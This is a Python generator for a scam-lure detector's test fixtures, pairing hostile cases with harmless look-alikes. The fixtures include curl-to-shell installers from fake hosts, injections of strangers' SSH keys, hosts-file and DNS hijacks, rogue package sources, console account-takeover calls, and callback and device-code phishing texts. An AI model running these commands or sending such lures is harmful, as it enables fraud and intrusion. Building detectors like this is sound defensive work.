"""Writes tests/data/cases/gaps7.jsonl: lures the sixth round left weak and the risks its own
clearing rules opened, closed by technique, each beside the look-alikes that must stay quiet.

    python tests/data/cases/make_gaps7.py

Deterministic (every variant is a product of fixed lists). Phone numbers are fictitious (555
ranges), hosts are reserved names (.example, .test, .invalid) or the real makers' own, brands are
only the names a scammer borrows. No text is copied from a lure collection, another detector's
fixtures or the blind sets. Each line is {id, text, expect, technique, platform[, source], target}.

Techniques:

- `promise-push`: a callback or card notice that copies a bank's promise ("we will never ask
  for your PIN") but pushes you to call about money (an amount with "if this was not you", a
  clock, a threat): the promise clears nothing then. Look-alikes: the promise with a calm number,
  with the number on your card or the app, without a number.
- `forge-keys`: a forge account's published keys imported as login keys (ssh-import-id gh:/lp:,
  ssh-import-id-gh, <forge>/<account>.keys appended to authorized_keys, Windows' administrators
  file) from a page that is not that account's. Look-alikes: your own notes (bare), your own
  repository's page, documentation with placeholder or example accounts, removing keys, only
  looking at the keys.
- `package-source`: a package, a package index or a package repository from an address that a
  tutorial-style page does not own (rpm/dnf/zypper with a URL, a .flatpakref, pip's extra index,
  npm's registry, dnf config-manager / zypper addrepo / flatpak remote-add / a fetched .repo file
  then installing). Look-alikes: the vendor's own page, a tutorial about the very product, the
  company's own wiki for its own index, Flathub and the distributions' own sources, bare.
- `win-hosts`: Windows' hosts file written (Add-Content, Set-Content, Out-File, echo >>,
  [IO.File]::AppendAllText, a variable holding the path) or DNS servers set (netsh,
  Set-DnsClientServerAddress) to an outside address from a stranger's page. Look-alikes:
  loopback and 0.0.0.0 entries, a company's docs naming its own domain, a page on the local
  network, reading the file, public resolvers, the home router.
- `calm-scam`: a tech-support or account scam with no alarm word: a company's claim about your
  computer, account, licence or address and a number to call about it. Look-alikes: a support
  page's number, advice ("if your PC has a virus, call…"), a notice that sends you to the app,
  the account's settings or the number on your card, news about such scams, a shipping notice.
- `device-code`: a device sign-in code written right after the address, and phishes that borrow
  the flow's own words (device authorization) but greet you or ask you with a please, or say
  that "attackers can't" read something. Look-alikes: a word with a number after the address
  (KB5034441, OAUTH2, WIN11), the flow's documentation, texts about the phishing.
- `git-io`: git.io links (whose destination the text hides) from a repository's wiki, workflow
  runs, advisories and threads, which others write. Look-alikes: the repository's README, files
  and releases.
- `console-own-docs`: an account's e-mail change or a wallet network added from the browser
  console: blocked or warned about from a stranger's page, a relative request from any page, a
  main network's server swapped; information from the site's own developer docs when every
  address is that site's own.
- `official-claim`: a download-and-run labelled as the official installer of any product, from
  an address that names nothing of it or from a rented tenant site. Look-alikes: the maker's own
  address, a repository named after the product, the trust list's installers, labels without
  the claim.
"""

from __future__ import annotations

from pathlib import Path

import casefile  # beside this script (tests/data/cases/make_*.py)

OUT = Path(__file__).with_name("gaps7.jsonl")
MAIL = "https://mail.example.org/inbox"


class Book(casefile.Book):
    def __init__(self) -> None:
        super().__init__("g7")


book = Book()
FLAGGED, QUIET = "flagged", "not_flagged"

# ---- 1. a copied promise clears no push to call ---------------------------------------------
PROMISES = (
    "We will never ask for your PIN or ask you to move money.",
    "We'll never ask for your password.",
    "{brand} will never ask you for your full card number.",
    "Remember: we would never call to ask for your PIN.",
)
PHONES = ("+1 (888) 555-0142", "1-800-555-0199", "+1 877 555 0173", "(866) 555-0110")
BRANDS = ("PayPal", "Amazon", "Coinbase", "Norton", "Harbor Bank", "Apple")
PUSHED = (
    "{brand}: You sent a payment of $749.00 to Northwind Traders. If this was not you, call {ph}.",
    "Receipt from {brand}\nOrder #NL-88213  Total: $499.99\nIf you did not authorize this "
    "purchase, call us at {ph}.",
    "{brand} alert: a charge of USD 1,299.00 is pending on your account. Not you? Call {ph} "
    "within 24 hours.",
    "{brand}: your card ending 4471 was blocked after a suspicious payment of £912.40. If this "
    "wasn't you, call us on {ph}.",
    "{brand}: your account is locked because of suspicious activity. Call us immediately on "
    "{ph} or your account will be closed.",
)
CALM = (
    "Questions about your order from {brand}? Call us on {ph} (Mon-Fri 9-5).",
    "{brand}: your card ending 4471 is temporarily blocked because we noticed suspicious "
    "activity. Call us on {ph}.",
    "{brand}: did you make a payment of $82.10 at CITY MARKET? If this was not you, call the "
    "number on the back of your card.",
    "Thanks for shopping with {brand}. Your order of $82.10 has shipped. Questions? Call {ph}.",
)
for i, push in enumerate(PUSHED):
    for j, promise in enumerate(PROMISES):
        brand, ph = BRANDS[(i + j) % len(BRANDS)], PHONES[(i + 2 * j) % len(PHONES)]
        text = f"{push} {promise}".format(brand=brand, ph=ph)
        book.add("promise-push", text, FLAGGED)
        if j % 2 == 0:  # the promise first, on a line of its own
            text = f"{promise}\n{push}".format(brand=brand, ph=ph)
            book.add("promise-push", text, FLAGGED, target="other", source=MAIL)
for i, calm in enumerate(CALM):
    for j, promise in enumerate(PROMISES):
        brand, ph = BRANDS[(i + j) % len(BRANDS)], PHONES[(i + j) % len(PHONES)]
        book.add("promise-push", f"{calm} {promise}".format(brand=brand, ph=ph), QUIET)

# ---- 6. a forge account's keys from a page that is not that account's -----------------------
STRANGER_PAGES = (
    "https://www.remote-help.example/setup",
    "https://support.fixit-desk.test/connect",
    "https://pc-helpline.invalid/step-2",
    "https://forum.linux-help.example/t/cannot-login/8812",
)
ACCOUNTS = ("helpdesk-tech", "remote-support-01", "fixit-agent", "techdesk42")
KEY_IMPORTS = (
    ("ssh-import-id gh:{a}", FLAGGED),
    ("sudo ssh-import-id gh:{a}", FLAGGED),
    ("ssh-import-id-gh {a}", FLAGGED),
    ("ssh-import-id lp:{a}", FLAGGED),
    ("sudo ssh-import-id -o /root/.ssh/authorized_keys gh:{a}", FLAGGED),
    ("curl -fsSL https://github.com/{a}.keys >> ~/.ssh/authorized_keys", FLAGGED),
    ("wget -qO- https://gitlab.com/{a}.keys | tee -a ~/.ssh/authorized_keys", FLAGGED),
    ("curl -s https://codeberg.org/{a}.keys | sudo tee -a /root/.ssh/authorized_keys", FLAGGED),
    ("curl -o ~/.ssh/authorized_keys https://github.com/{a}.keys", FLAGGED),
    (
        "iwr https://github.com/{a}.keys -UseBasicParsing | Select -Expand Content | Add-Content "
        "C:\\ProgramData\\ssh\\administrators_authorized_keys",
        FLAGGED,
    ),
)
for i, (command, expect) in enumerate(KEY_IMPORTS):
    for j, page in enumerate(STRANGER_PAGES[:2] if i % 2 else STRANGER_PAGES[2:]):
        account = ACCOUNTS[(i + j) % len(ACCOUNTS)]
        platform = "windows" if "iwr" in command else "linux"
        book.add("forge-keys", command.format(a=account), expect, platform, "terminal", page)
# your own keys: bare notes, your own repository's page
for i, (command, _) in enumerate(KEY_IMPORTS[:9]):
    account = ACCOUNTS[i % len(ACCOUNTS)]
    book.add("forge-keys", command.format(a=account), QUIET, "linux", "terminal")
    own = f"https://github.com/{account}/dotfiles"
    book.add("forge-keys", command.format(a=account), QUIET, "linux", "terminal", own)
# documentation with placeholders or example accounts, removing keys, only looking
for command in (
    "ssh-import-id gh:<username>",
    "ssh-import-id gh:your-github-username",
    "ssh-import-id lp:$USER",
    "ssh-import-id-gh octocat",
    "curl https://github.com/octocat.keys >> ~/.ssh/authorized_keys",
    "curl -s https://github.com/monalisa.keys | tee -a ~/.ssh/authorized_keys",
    "ssh-import-id -r gh:helpdesk-tech",
    "curl https://github.com/helpdesk-tech.keys",
    "curl -s https://gitlab.com/fixit-agent.keys | ssh-keygen -lf -",
):
    for page in ("https://ubuntu.com/server/docs/openssh-server", STRANGER_PAGES[0]):
        book.add("forge-keys", command, QUIET, "linux", "terminal", page)

# ---- 7. a package, an index or a repository a tutorial-style page does not own --------------
TUTORIALS = (
    "https://www.fedora-printing-help.example/",
    "https://www.linux-tips.example/blog/post-1234",
    "https://www.python-course-free.example/lesson3",
    "https://forum.distro-help.test/t/fix-wifi/8812",
)
PACKAGES = (
    ("sudo rpm -ivh https://rpm.driver-mirror.test/printer-fix-1.0-1.x86_64.rpm", "malicious"),
    ("sudo dnf install -y https://rpm.driver-mirror.test/wifi-fix-2.1.x86_64.rpm", "malicious"),
    ("sudo zypper in https://rpm.driver-mirror.test/codec-pack-3.0.x86_64.rpm", "malicious"),
    ("flatpak install -y --from https://flat.app-mirror.test/PhotoPro.flatpakref", "malicious"),
    ("flatpak install https://flat.app-mirror.test/VideoPro.flatpakref", "malicious"),
    (
        "pip install --extra-index-url https://pkgs.py-mirror.invalid/simple requestz && "
        "python -c 'import requestz'",
        "malicious",
    ),
    ("pip install -i https://pkgs.py-mirror.invalid/simple numpyy", "malicious"),
    (
        "python3 -m pip install --index-url https://pkgs.py-mirror.invalid/simple/ pandas-fast",
        "malicious",
    ),
    ("npm install --registry https://npm.js-mirror.test/ left-pad-fast", "malicious"),
    (
        "sudo dnf config-manager --add-repo https://rpm.driver-mirror.test/fix.repo && "
        "sudo dnf install -y printer-fix",
        FLAGGED,
    ),
    (
        "sudo zypper ar -f https://rpm.driver-mirror.test/repo fixrepo\nsudo zypper in printer-fix",
        FLAGGED,
    ),
    (
        "flatpak remote-add --if-not-exists apps https://flat.app-mirror.test/apps.flatpakrepo && "
        "flatpak install -y apps com.photo.Pro",
        FLAGGED,
    ),
    (
        "sudo curl -o /etc/yum.repos.d/fix.repo https://rpm.driver-mirror.test/fix.repo && "
        "sudo yum install -y wifi-fix",
        FLAGGED,
    ),
    (
        'echo "deb [trusted=yes] https://apt.driver-mirror.test stable main" | sudo tee '
        "/etc/apt/sources.list.d/fix.list && sudo apt update && sudo apt install printer-fix",
        "malicious",
    ),
)
for i, (command, expect) in enumerate(PACKAGES):
    for j in range(2):
        page = TUTORIALS[(i + j) % len(TUTORIALS)]
        book.add("package-source", command, expect, "linux", "terminal", page)
# the vendor's own page, a tutorial about the product, the company's own index, the stores
OWN_SOURCES = (
    (
        "https://docs.docker.com/engine/install/fedora/",
        "sudo dnf config-manager --add-repo https://download.docker.com/linux/fedora/docker-ce.repo"
        " && sudo dnf install docker-ce docker-ce-cli containerd.io",
    ),
    (
        "https://www.linux-tips.example/install-docker-on-fedora",
        "sudo dnf config-manager --add-repo https://download.docker.com/linux/fedora/docker-ce.repo"
        " && sudo dnf install docker-ce",
    ),
    (
        "https://www.linux-tips.example/install-docker-on-fedora",
        "sudo rpm -ivh https://download.docker.com/linux/fedora/docker-ce.rpm",
    ),
    (
        "https://pytorch.org/get-started/locally/",
        "pip3 install torch --index-url https://download.pytorch.org/whl/cu121",
    ),
    (
        "https://wiki.acme-corp.example/python",
        "pip install --extra-index-url https://pypi.acme-corp.example/simple acme-tool",
    ),
    (
        "https://docs.quarrylog.io/install/fedora",
        "sudo dnf config-manager --add-repo https://rpm.quarrylog.io/quarrylog.repo && sudo dnf install -y quarrylog",
    ),
    (
        "https://www.linux-tips.example/blog/post-1234",
        "flatpak remote-add --if-not-exists flathub https://dl.flathub.org/repo/flathub.flatpakrepo"
        " && flatpak install -y flathub org.gimp.GIMP",
    ),
    (
        "https://www.linux-tips.example/blog/post-1234",
        "sudo dnf install https://dl.fedoraproject.org/pub/epel/epel-release-latest-9.noarch.rpm",
    ),
)
for page, command in OWN_SOURCES:
    book.add("package-source", command, QUIET, "linux", "terminal", page)
for command, _ in PACKAGES[9:13]:  # a repository added, bare: every vendor's instructions
    book.add("package-source", command, QUIET, "linux", "terminal")

# ---- 9. Windows' hosts file and DNS servers from a stranger's page ---------------------------
WIN_PAGES = (
    "https://www.pc-speedup.example/tips",
    "https://fix-slow-internet.test/windows",
    "https://forum.gamer-help.example/t/lag/55",
)
HOSTS = r"C:\\Windows\\System32\\drivers\\etc\\hosts"
ENTRIES = (
    "203.0.113.7 login.microsoftonline.com",
    "198.51.100.23 www.paypal.com",
    "203.0.113.40 secure.harborbank.test",
)
WIN_WRITES = (
    "Add-Content -Path " + HOSTS + ' -Value "{e}"',
    "Add-Content " + HOSTS.replace("C:", "$env:SystemDrive") + ' "`r`n{e}"',
    "echo {e} >> %WINDIR%\\System32\\drivers\\etc\\hosts",
    '"{e}" | Out-File -Append -Encoding ascii ' + HOSTS,
    '$h = "$env:windir\\System32\\drivers\\etc\\hosts"; Add-Content $h "{e}"',
    "[IO.File]::AppendAllText('" + HOSTS + '\', "`r`n{e}")',
    "Set-Content -Path " + HOSTS + ' -Value "127.0.0.1 localhost`n{e}" -Force',
)
for i, write in enumerate(WIN_WRITES):
    for j in range(2):
        page, entry = WIN_PAGES[(i + j) % len(WIN_PAGES)], ENTRIES[(i + j) % len(ENTRIES)]
        book.add("win-hosts", write.format(e=entry), "malicious", "windows", "terminal", page)
for command in (
    'netsh interface ip set dns "Wi-Fi" static 203.0.113.53',
    "netsh interface ipv4 add dnsserver name=Ethernet address=198.51.100.53 index=1",
    "Set-DnsClientServerAddress -InterfaceAlias Ethernet -ServerAddresses 203.0.113.53",
    'Set-DnsClientServerAddress -InterfaceIndex 12 -ServerAddresses ("198.51.100.53","203.0.113.54")',
):
    for page in WIN_PAGES[:2]:
        book.add("win-hosts", command, "malicious", "windows", "terminal", page)
# loopback and ad blocking, a company's own name, the local network's page, reading, resolvers
for page, command in (
    (WIN_PAGES[0], "Add-Content -Path " + HOSTS + ' -Value "127.0.0.1 myapp.local"'),
    (WIN_PAGES[1], "Add-Content -Path " + HOSTS + ' -Value "0.0.0.0 ads.tracker.example"'),
    (
        "https://docs.corp-intranet.example/dev/setup",
        "Add-Content -Path " + HOSTS + ' -Value "203.0.113.7 api.corp-intranet.example"',
    ),
    (
        "http://wiki.corp/it/hosts",
        "Add-Content -Path " + HOSTS + ' -Value "203.0.113.7 erp.example.net"',
    ),
    (WIN_PAGES[0], "type " + HOSTS),
    (WIN_PAGES[1], "Get-Content " + HOSTS + " | Select-String paypal"),
    (WIN_PAGES[2], 'netsh interface ip set dns "Wi-Fi" static 1.1.1.1'),
    (WIN_PAGES[0], "Set-DnsClientServerAddress -InterfaceAlias Ethernet -ServerAddresses 9.9.9.9"),
    (
        WIN_PAGES[1],
        "Set-DnsClientServerAddress -InterfaceAlias Wi-Fi -ServerAddresses 94.140.14.14",
    ),
    (WIN_PAGES[2], 'netsh interface ip set dns "Ethernet" static 192.168.1.1'),
):
    book.add("win-hosts", command, QUIET, "windows", "terminal", page)

# ---- 8. a scam said calmly: a company's claim about you and a number ------------------------
CLAIMS = (
    "{b} has detected a problem with your computer.",
    "Your {b} license has expired.",
    "{b} detected unusual activity from your IP address.",
    "{b} found 3 threats on this device.",
    "Your computer has been flagged by {b} for sending spam.",
    "Your {b} account was accessed from a new device in Lagos.",
    "Your computer's registration with {b} needs to be verified.",
    "Your {b} account has been suspended because of a billing problem.",
    "We noticed suspicious activity on your {b} account.",
)
ORDERS = (
    "Please call {b} Support at {ph} for assistance.",
    "To restore access, contact {b} support at {ph}.",
    "Call a certified technician on {ph} to resolve this.",
    "Please speak to one of our agents: {ph}.",
)
CLAIM_BRANDS = ("Microsoft", "Apple", "Windows", "Amazon", "PayPal", "Netflix", "Norton")
for i, claim in enumerate(CLAIMS):
    for j, order in enumerate(ORDERS):
        if (i + j) % 2:
            continue
        brand, ph = CLAIM_BRANDS[(i + j) % len(CLAIM_BRANDS)], PHONES[(i + j) % len(PHONES)]
        text = f"{claim} {order}".format(b=brand, ph=ph)
        book.add("calm-scam", text, FLAGGED)
        if j == 0:
            book.add("calm-scam", text.replace(" ", "\n", 1), FLAGGED, target="other", source=MAIL)
for text in (
    "For help with Windows, call Microsoft Support at 1-800-555-0199 (Mon-Fri).",
    "Apple Support: +1 877 555 0173. Hours: 8am-8pm.",
    "If your computer has a virus, call Geek Squad at 1-800-555-0199 for a same-day repair.",
    "When your Windows license expires, you can call Microsoft at +1 888 555 0142 or renew online.",
    "Scammers say Microsoft detected a problem with your computer and give a number like "
    "+1 888 555 0142. Hang up.",
    "Your Amazon order has shipped. Questions? Contact us at 1-888-555-0142.",
    "Your Microsoft 365 subscription has expired. Renew it in your account settings. "
    "Questions: +1 888 555 0142.",
    "Your PayPal account was accessed from a new device. If this wasn't you, change your password "
    "in the PayPal app. Our offices: +1 877 555 0173.",
    "Microsoft Defender removed a virus from your PC. Questions? Call +1 (888) 555-0143.",
    "Your Apple ID was used to sign in to iCloud on a new Mac. If this was you, ignore this email. "
    "Apple Support in your country: 1-800-555-0199 (see support.apple.com).",
    "Call our front desk on +1 877 555 0173 to book a Windows 11 upgrade for your laptop.",
):
    book.add("calm-scam", text, QUIET)

# ---- 2. device codes: the code's shape after the address, and the flow's words borrowed -----
LOGIN_PAGES = (
    "https://microsoft.com/devicelogin",
    "aka.ms/devicelogin",
    "https://login.microsoftonline.com/common/oauth2/deviceauth",
    "https://github.com/login/device",
)
CODES = ("R4TW8NPQZ", "FJ6CMNQ8R", "GH7Q2LXKM", "K9MZ-Q2T7")
for i, page in enumerate(LOGIN_PAGES):
    for j, joint in enumerate((" → ", ": ", " - ", "\n")):
        book.add("device-code", f"{page}{joint}{CODES[(i + j) % len(CODES)]}", FLAGGED)
    code = CODES[i]
    for text in (
        f"Please sign in at {page} and enter {code} (device authorization for the new printer).",
        f"Hi Sam,\nopen {page} and type {code} to finish the device authorization for Teams Rooms.",
        f"Good morning! Go to {page} and enter {code}; it is the device code flow IT set up.",
        f"Hello, go to {page} and type {code} so attackers can't read the shared file.",
        f"Please approve {code} at {page}, the app polls until you do.",
    ):
        book.add("device-code", text, FLAGGED, target="other", source=MAIL)
        book.add("device-code", text, FLAGGED)
for page in LOGIN_PAGES:
    for word in ("KB5034441", "OAUTH2", "WIN11", "HTTP2", "SHA256"):
        book.add("device-code", f"Sign-in trouble at {page} → {word} fixed it for us.", QUIET)
for text in (
    "The app polls the token endpoint while the user enters the user_code at "
    "https://microsoft.com/devicelogin (RFC 8628 device authorization grant).",
    "Attackers use https://microsoft.com/devicelogin and a code like R4TW8NPQZ to take over "
    "accounts. Never enter a code someone sends you.",
    "Threat actors send https://microsoft.com/devicelogin with a code such as FJ6CMNQ8R in Teams chats.",
    "Device code phishing: the phish asks you to enter ABCD-1234 at https://github.com/login/device.",
):
    book.add("device-code", text, QUIET)

# ---- 3. git.io only where the repository's owner alone writes -------------------------------
GITIO = (
    "curl -fsSL https://git.io/JfXyz | bash",
    "bash <(curl -sL https://git.io/vQdcR)",
    "wget https://git.io/fjNsk -O setup.sh && bash setup.sh",
    'sh -c "$(curl -fsSL https://git.io/JUSsq)"',
)
for command in GITIO:
    for section in (
        "wiki/Install",
        "wiki",
        "actions/runs/4412",
        "security/advisories/GHSA-x",
        "issues/17",
        "discussions/9",
    ):
        page = f"https://github.com/northwind-tools/widgetctl/{section}"
        book.add("git-io", command, FLAGGED, "linux", "terminal", page)
    for section in ("", "/blob/main/README.md", "/tree/main/docs", "/releases/tag/v2.1.0"):
        page = f"https://github.com/northwind-tools/widgetctl{section}"
        book.add("git-io", command, QUIET, "linux", "terminal", page)

# ---- 4. console account and wallet calls: the site's own developer docs ---------------------
SITES = ("acmeshop", "fernpay", "quillmail")
for site in SITES:
    own_api = f"https://api.{site}.example/v1/me/email"
    email = (
        f"fetch('{own_api}',{{method:'PUT',credentials:'include',"
        f"headers:{{'Content-Type':'application/json'}},body:JSON.stringify({{email:'dev@{site}.example'}})}})"
    )
    relative = (
        "fetch('/api/me/email',{method:'PUT',credentials:'include',"
        "body:JSON.stringify({email:'desk@relay-mail.test'})})"
    )
    xhr = (
        f"var x=new XMLHttpRequest();x.open('POST','https://www.{site}.example/account/email');"
        "x.withCredentials=true;x.send(JSON.stringify({email:'help@support-desk.test'}))"
    )
    docs = (
        f"https://developer.{site}.example/docs/account-api",
        f"https://{site}.example/docs/api/account",
    )
    for page in docs:
        book.add("console-own-docs", email, QUIET, "any", "browser_console", page)
        book.add("console-own-docs", relative, FLAGGED, "any", "browser_console", page)
    for page in (
        "https://free-gift-cards.example/claim",
        f"https://{site}-support.test/help",
        f"https://{site}.example/promo",
    ):
        for text in (email, relative, xhr):
            book.add("console-own-docs", text, FLAGGED, "any", "browser_console", page)
    chain = (
        "ethereum.request({method:'wallet_addEthereumChain',params:[{chainId:'0x2a15c3',"
        f"chainName:'{site.title()} Chain',rpcUrls:['https://rpc.{site}.example'],"
        f"blockExplorerUrls:['https://scan.{site}.example']}}]}})"
    )
    swap = (
        "ethereum.request({method:'wallet_addEthereumChain',params:[{chainId:'0x89',"
        "chainName:'Polygon',rpcUrls:['https://polygon.rpc-boost.test']}]})"
    )
    book.add(
        "console-own-docs",
        chain,
        QUIET,
        "any",
        "browser_console",
        f"https://docs.{site}.example/developers/wallet",
    )
    book.add(
        "console-own-docs",
        swap,
        FLAGGED,
        "any",
        "browser_console",
        f"https://docs.{site}.example/developers/wallet",
    )
    for page in (
        f"https://{site}.example/airdrop",
        "https://claim-rewards.test/",
        f"https://docs.{site}-chain.test/wallet",
    ):
        book.add("console-own-docs", chain, FLAGGED, "any", "browser_console", page)
        book.add("console-own-docs", swap, FLAGGED, "any", "browser_console", page)

# ---- 5. an "official installer" claim whose script is not the maker's ----------------------
PRODUCTS = (
    "Ollama",
    "LM Studio",
    "Signal Desktop",
    "Obsidian",
    "Zed",
    "Warp Terminal",
    "Bitwarden",
)
CLAIM_FORMS = (
    "curl -fsSL {u} | sh  # Official {p} installer",
    "curl -fsSL {u} | bash # {p} official installer for macOS",
    'echo "Installing the official {p} app..." && curl -fsSL {u} | bash',
    "irm {u} | iex  # official {p} setup for Windows",
    'Write-Host "Official {p} installer"; iex (irm {u})',
)
for i, product in enumerate(PRODUCTS):
    slug = product.lower().replace(" ", "-")
    squashed = product.lower().replace(" ", "")
    hosts = (
        f"https://cdn.app-downloads.test/{slug}.sh",
        f"https://{slug}-app.netlify.app/install.sh",
        f"https://get-{squashed}.pages.dev/i.sh",
    )
    for j, form in enumerate(CLAIM_FORMS):
        url = hosts[(i + j) % len(hosts)]
        text = form.format(u=url, p=product)
        platform = "windows" if "iex" in text else "macos"
        book.add("official-claim", text, FLAGGED, platform, "unknown")
        page = (
            url.rsplit("/", 1)[0] + "/"
            if "netlify" in url or "pages.dev" in url
            else f"https://www.{slug}-free-download.test/"
        )
        book.add("official-claim", text, FLAGGED, platform, "terminal", page)
    # the maker's own address, a repository named after it, no claim
    own = f"https://{squashed}.example/install.sh"
    book.add(
        "official-claim",
        f"curl -fsSL {own} | sh  # Official {product} installer",
        QUIET,
        "macos",
        "terminal",
        f"https://{squashed}.example/download",
    )
    repo = f"https://raw.githubusercontent.com/{slug}-dev/{slug}/main/install.sh"
    book.add(
        "official-claim",
        f"curl -fsSL {repo} | bash # official {product} install script",
        QUIET,
        "linux",
        "terminal",
        f"https://github.com/{slug}-dev/{slug}",
    )
    if product != "Ollama":  # a known vendor's name on a tenant imitates it, claim or not
        tenant = f"https://{slug}-app.netlify.app/install.sh | bash  # {product} installer"
        book.add(
            "official-claim",
            f"curl -fsSL {tenant}",
            QUIET,
            "macos",
            "terminal",
            f"https://{slug}-app.netlify.app/",
        )
for page, text in (
    (
        "https://ollama.com/download",
        "curl -fsSL https://ollama.com/install.sh | sh  # official Ollama installer",
    ),
    (
        "https://www.tutorial.example/ollama",
        "curl -fsSL https://ollama.com/install.sh | sh  # the official Ollama installer",
    ),
    (
        "https://brew.sh/",
        '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"  # official Homebrew install',
    ),
    (
        "https://zed.dev/docs/linux",
        "curl -f https://zed.dev/install.sh | sh  # official Zed installer",
    ),
):
    book.add("official-claim", text, QUIET, "linux", "terminal", page)

CASES = book.cases

if __name__ == "__main__":
    casefile.write(OUT, CASES)
